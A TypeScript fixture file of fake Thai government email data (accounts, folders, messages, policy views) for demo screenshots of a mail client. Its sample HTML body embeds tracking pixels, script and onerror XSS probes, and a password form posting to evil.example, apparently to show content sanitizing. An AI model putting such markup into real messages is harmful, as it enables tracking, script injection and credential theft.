// Canned Thai data for the FAKE bridge (fakeBridge.ts): accounts, folders, messages and a machine policy
// view, all typed by the contract's domain types. For screenshots and UI work only, never for real tests.
import type { EffectivePolicyView } from '../../shared/domain/machinePolicy.js';
import type { AccountSummary, Folder, MessageSummary, MessageView } from '../../shared/domain/schemas.js';
import type { Snippet } from '../../shared/domain/search.js';
import { DEFAULT_POLICY, STRICTEST_POLICY } from '../../shared/policy/policy.js';

export const LOGO =
  'data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAGAAAAAcCAIAAAARGi3VAAAAWElEQVR42u3ZsREAEAxAURsYwxgms4xtTMUENE6Bl/tlqlflLqHVpEUBAaA9oJiLFgECBAgQIEAfAfXJvLoPCBAgQIAAAQLkUBQgQIAAAboOyGPHXwzQyQaCWNJ18TmasQAAAABJRU5ErkJggg==';

export const SENDERS = [
  { name: 'สำนักงานปลัดกระทรวงสาธารณสุข', address: 'saraban@moph.go.th' },
  { name: 'นางสาวพรทิพย์ ศรีสุข', address: 'porntip.s@moph.go.th' },
  { name: 'กองคลัง กรมบัญชีกลาง', address: 'finance@cgd.go.th' },
  { name: 'นายวิชัย ทองดี', address: 'wichai.t@dga.or.th' },
  { name: '', address: 'helpdesk@nectec.or.th' },
  { name: 'ศูนย์เทคโนโลยีสารสนเทศ', address: 'ict-center@mof.go.th' },
  { name: 'ดร.สุภาพร วงศ์ใหญ่', address: 'supaporn.w@mhesi.go.th' },
];

export const SUBJECTS = [
  'ขอเชิญประชุมคณะทำงานพัฒนาระบบสารบรรณอิเล็กทรอนิกส์',
  'ด่วนที่สุด: แจ้งเวียนหลักเกณฑ์การเบิกจ่ายงบประมาณ พ.ศ. 2569',
  'สรุปผลการดำเนินงานไตรมาสที่ 1',
  'ขอความอนุเคราะห์ข้อมูลบุคลากรเพื่อจัดทำแผนอัตรากำลัง',
  'แจ้งปิดปรับปรุงระบบเครือข่ายในวันเสาร์นี้',
  'ร่างคำสั่งแต่งตั้งคณะกรรมการตรวจรับพัสดุ',
  'ตอบ: รายงานการประชุมครั้งที่ 3/2569',
  'ขอส่งเอกสารประกอบการฝึกอบรมความมั่นคงปลอดภัยไซเบอร์',
];

export const ACCOUNT_1: AccountSummary = {
  id: 1,
  email: 'somchai.j@moph.go.th',
  displayName: 'สมชาย ใจดี',
  imap: { host: 'imap.moph.go.th', port: 993, security: 'tls' },
  smtp: { host: 'smtp.moph.go.th', port: 465, security: 'tls' },
  user: 'somchai.j@moph.go.th',
};

export function demoFolders(accountId: number, inboxSize: number): Folder[] {
  const base = accountId * 10;
  const f = (
    n: number,
    path: string,
    name: string,
    specialUse: Folder['specialUse'],
    total: number,
    unread: number,
  ): Folder => ({ id: base + n, accountId, path, name, delimiter: '/', specialUse, total, unread });
  return [
    f(1, 'INBOX', 'INBOX', 'inbox', inboxSize, Math.min(inboxSize, 1284)),
    f(2, 'Drafts', 'Drafts', 'drafts', 3, 0),
    f(3, 'Sent', 'Sent', 'sent', 240, 0),
    f(4, 'Archive', 'Archive', 'archive', 1820, 0),
    f(5, 'Junk', 'Junk', 'junk', 12, 4),
    f(6, 'Trash', 'Trash', 'trash', 57, 0),
    f(7, 'Projects', 'โครงการ', null, 25, 2),
    f(8, 'Projects/Budget2569', 'งบประมาณ 2569', null, 40, 0),
  ];
}

/** Message i (0 = newest) of a folder; ids encode the folder so messages.get can find it again. */
export function demoSummary(
  folder: Folder,
  i: number,
  now: number,
  read: ReadonlySet<number>,
): MessageSummary {
  const id = folder.id * 1_000_000 + i + 1;
  const sender = SENDERS[i % SENDERS.length] ?? SENDERS[0]!;
  const subject = SUBJECTS[i % SUBJECTS.length] ?? '';
  return {
    id,
    accountId: folder.accountId,
    folderId: folder.id,
    uid: folder.total - i,
    date: now - i * 47 * 60_000 - 5 * 60_000,
    from: sender,
    subject: i === 5 ? '' : i < SUBJECTS.length ? subject : `${subject} (${i + 1})`,
    unread: !read.has(id) && (i < 3 || i % 7 === 0),
    flagged: i % 11 === 1,
    hasAttachments: i % 4 === 0,
    size: 4_000 + ((i * 7919) % 200_000),
    // Older messages are not downloaded yet, so the "not offline" mark shows in screenshots.
    cached: i < 40 || i % 9 !== 0,
  };
}

export function demoView(s: MessageSummary, i: number): MessageView {
  const html =
    i % 2 === 0
      ? `<div style="font-family:Tahoma,sans-serif"><img src="cid:logo@moph.go.th" alt="ตรากระทรวง">
<h2 style="color:#0f3f7d">${s.subject}</h2>
<p>เรียน ผู้อำนวยการทุกสำนัก</p>
<p>ด้วยสำนักงานปลัดกระทรวงสาธารณสุขจะจัดประชุมคณะทำงาน ในวันพุธที่ 3 ธันวาคม 2569 เวลา 09.30 น. ณ ห้องประชุม 1 ชั้น 5
จึงขอเชิญท่านหรือผู้แทนเข้าร่วมประชุมตามวัน เวลา และสถานที่ดังกล่าว</p>
<table border="1" cellpadding="6" style="border-collapse:collapse;background:url(https://tracker.example/bg.png)">
<tr><th>วาระ</th><th>เรื่อง</th></tr><tr><td>1</td><td>เรื่องที่ประธานแจ้งให้ทราบ</td></tr><tr><td>2</td><td>ร่างแนวทางการใช้อีเมลภาครัฐ</td></tr></table>
<p>จึงเรียนมาเพื่อโปรดพิจารณา <a href="https://www.moph.go.th/">www.moph.go.th</a></p>
<img src="https://tracker.example/open.gif?u=somchai" width="1" height="1"><script>alert('x')</script>
<img src="x" onerror="alert(1)"><form action="https://evil.example"><input name="pw"></form>
<p style="color:#5b6472">ขอแสดงความนับถือ<br>${s.from?.name ?? ''}</p></div>`
      : null;
  return {
    summary: { ...s, unread: false },
    messageId: `<${s.id}@fake.invalid>`,
    to: [{ name: ACCOUNT_1.displayName, address: ACCOUNT_1.email }],
    cc: i % 3 === 0 ? [{ name: 'กลุ่มงานสารบรรณ', address: 'saraban-group@moph.go.th' }] : [],
    replyTo: [],
    text: `เรียน คุณสมชาย\n\nตามที่ได้ประสานไว้ ขอส่ง${s.subject}\nรายละเอียดตามไฟล์แนบ https://intranet.moph.go.th/doc/123\n\nขอบคุณครับ\n${s.from?.name ?? ''}`,
    html,
    attachments: s.hasAttachments
      ? [
          {
            index: 0,
            filename: 'หนังสือเชิญประชุม.pdf',
            contentType: 'application/pdf',
            size: 182_344,
            contentId: null,
            inline: false,
          },
          {
            index: 1,
            filename: 'แบบตอบรับ.docx',
            contentType: 'application/vnd.openxmlformats-officedocument.wordprocessingml.document',
            size: 23_880,
            contentId: null,
            inline: false,
          },
          {
            index: 2,
            filename: 'logo.png',
            contentType: 'image/png',
            size: 196,
            contentId: 'logo@moph.go.th',
            inline: true,
          },
        ]
      : [],
    inlineImages: { 'logo@moph.go.th': LOGO },
  };
}

/** Every occurrence of `query` in `text` marked (a crude stand-in for the core's snippets). */
export function demoSnippet(text: string, query: string): Snippet {
  const highlights: [number, number][] = [];
  for (let at = text.indexOf(query); query !== '' && at !== -1; at = text.indexOf(query, at + query.length)) {
    highlights.push([at, at + query.length]);
  }
  return { text, highlights };
}

export type FakePolicyKind = 'default' | 'file' | 'invalid';

const FILE = '/etc/raksa-mail/policy.json';

export function demoPolicyView(kind: FakePolicyKind): EffectivePolicyView {
  const hash = 'c0ffee'.padEnd(64, '0');
  if (kind === 'invalid') {
    return {
      policy: STRICTEST_POLICY,
      source: 'invalid',
      path: FILE,
      error: `${FILE}: not valid JSON: Unexpected token } in JSON at position 41`,
      lockedKeys: Object.fromEntries(
        ['governmentDomains', 'rules.external', 'rules.freeMail', 'allowedMailServers', 'remoteContent'].map(
          (k) => [k, 'strictest-fallback'],
        ),
      ),
      hash,
      problem: 'The machine policy is invalid. The strictest settings apply until IT fixes it.',
    };
  }
  if (kind === 'file') {
    return {
      policy: {
        ...DEFAULT_POLICY,
        governmentDomains: ['dga.or.th', 'nstda.or.th'],
        rules: { ...DEFAULT_POLICY.rules, freeMail: 'justify' },
        allowedMailServers: ['*.go.th', 'mail.dga.or.th'],
        remoteContent: 'block',
        offlineWindowDays: 365,
      },
      source: 'file',
      path: FILE,
      error: null,
      lockedKeys: {
        governmentDomains: FILE,
        'rules.freeMail': FILE,
        allowedMailServers: FILE,
        remoteContent: FILE,
        offlineWindowDays: FILE,
      },
      hash,
      problem: null,
    };
  }
  return {
    policy: DEFAULT_POLICY,
    source: 'default',
    path: null,
    error: null,
    lockedKeys: {},
    hash,
    problem: null,
  };
}
